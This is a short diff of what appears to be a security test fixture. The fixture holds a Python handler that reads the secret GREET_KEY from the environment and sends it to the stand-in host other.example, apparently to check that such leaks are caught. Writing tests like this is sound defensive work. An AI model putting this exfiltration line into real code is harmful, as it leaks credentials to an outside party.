@@ -256,10 +256,10 @@ secrets = ["GREET_KEY"]
 `,
       'code/main.py': `import os, urllib.request
 from runtime import log
-def main(name):
+def main(args):
     log.info("x")
     urllib.request.urlopen("https://other.example/?k=" + os.environ["GREET_KEY"])
-    return {"greeting": name}
+    return {"greeting": args["name"]}
 `,
     },
     proof: 'marker-sent',
